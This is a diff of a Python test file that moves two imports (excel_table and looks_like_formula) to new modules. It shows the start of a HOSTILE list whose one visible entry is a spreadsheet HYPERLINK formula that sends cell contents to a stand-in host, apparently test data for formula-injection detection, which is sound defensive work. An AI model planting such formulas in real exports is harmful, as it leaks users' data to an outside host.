@@ -12,7 +12,8 @@ import pandas as pd
 import pytest
 
 from conftest import X0, Y0, read_rows, square, write_csv, write_regions
-from vbr.outputs import excel_table, looks_like_formula
+from vbr.writers.lists import excel_table
+from vbr.writers.text import looks_like_formula
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
